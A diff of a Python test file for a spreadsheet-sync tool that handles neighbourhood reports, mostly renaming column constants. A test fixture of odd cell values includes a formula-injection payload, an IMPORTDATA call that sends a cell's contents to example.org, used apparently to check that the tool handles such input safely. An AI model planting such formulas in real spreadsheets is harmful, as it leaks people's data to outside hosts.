@@ -9,18 +9,20 @@ from typing import Any
 import pytest
 
 from automation.cases.cells import CellError, Value
-from automation.cases.columns import PEOPLE, ROBOT, Column
 from automation.cases.events import JOURNAL
 from automation.config.tables import REGISTER, REPAIRS, SOURCES
 from automation.sheets.looks.status_line import is_line
 from automation.sheets.prepare import INTAKE_COLUMNS
+from automation.tables import intake
+from automation.tables.intake import PEOPLE, ROBOT
+from automation.tables.table import Column
 from tests.google_city import City, link
 from tests.local_city import GOOD_ROW, LocalCity
 from tests.sheets_server.fixtures import Google
 from tests.sheets_server.people import Person
 from tests.town import NOTE, WORDS
 
-TYPED = [column for column in PEOPLE if column is not Column.KELURAHAN]
+TYPED = [column for column in PEOPLE if column is not intake.KELURAHAN]
 ODD: dict[str, Value] = {
     "formula": '=IMPORTDATA("https://example.org/?"&A1)',
     "plus": "+62 812-0000-1021",
@@ -100,11 +102,11 @@ def test_whatever_stands_in_peoples_columns_the_second_cycle_writes_nothing(both
     rows: list[dict[str, Value]] = []
     for kind, value in ODD.items():
         rows.append({NOTE: kind, **{str(column): value for column in TYPED}})
-        for column in (Column.NAME, Column.ADDRESS, Column.DESCRIPTION, Column.ASSIGNEE, Column.TOLD):
+        for column in (intake.NAME, intake.ADDRESS, intake.DESCRIPTION, intake.ASSIGNEE, intake.TOLD):
             row: dict[str, Value] = {NOTE: f"{kind} di {column}", column: value}
-            if column is not Column.NAME:
-                row[Column.NAME] = f"Warga {len(rows)}"
-            rows.append({**row, Column.RT_RW: f"{len(rows):03}/001"})
+            if column is not intake.NAME:
+                row[intake.NAME] = f"Warga {len(rows)}"
+            rows.append({**row, intake.RT_RW: f"{len(rows):03}/001"})
     both.type(rows)
     mine = [row[len(ROBOT) :] for row in both.rows("Gondrong")]
     assert both.run("sync") == 0
@@ -207,8 +209,8 @@ def test_a_cell_that_is_emptied_by_mistake_is_given_back(city: City) -> None:
     """The robot clears a cell of its own; meanwhile a column was inserted, and people's cell stands in its place."""
     person = city.spreadsheets["Laporan"]
     titles = person.values("Gondrong")[0]
-    person.set("Gondrong", 1, titles.index(Column.LATENESS), "basi")
-    person.set("Gondrong", 1, titles.index(Column.RESOLVED), "basi")
+    person.set("Gondrong", 1, titles.index(intake.LATENESS), "basi")
+    person.set("Gondrong", 1, titles.index(intake.RESOLVED), "basi")
     before = people_of(person)
     city.server.before("batchUpdate", lambda: person.delete_column("Gondrong", 0))
     assert city.run("sync") == 0
@@ -275,13 +277,13 @@ def test_a_spreadsheet_that_is_never_still_waits_for_the_next_cycle(
 def test_a_description_of_emoji_fits_the_journal(tmp_path: Path) -> None:
     """xlsx counts an emoji as two characters."""
     city = LocalCity.lay_out(tmp_path, {"Laporan": ("Gondrong",)})
-    city.type("Laporan", "Gondrong", {NOTE: "x", Column.DESCRIPTION: "lampu mati total " + "🚧" * 16370})
+    city.type("Laporan", "Gondrong", {NOTE: "x", intake.DESCRIPTION: "lampu mati total " + "🚧" * 16370})
     assert city.run("sync") == 0
 
 
 @pytest.mark.parametrize(
     ("column", "value"),
-    [(Column.NAME, "Ja\x7fln"), (Column.ASSIGNEE, "J\uffffx"), (Column.CATEGORY, "Jaln\uffffx")],
+    [(intake.NAME, "Ja\x7fln"), (intake.ASSIGNEE, "J\uffffx"), (intake.CATEGORY, "Jaln\uffffx")],
 )
 def test_characters_that_no_spreadsheet_keeps_are_written_once(
     google: Google, tmp_path: Path, column: Column, value: str
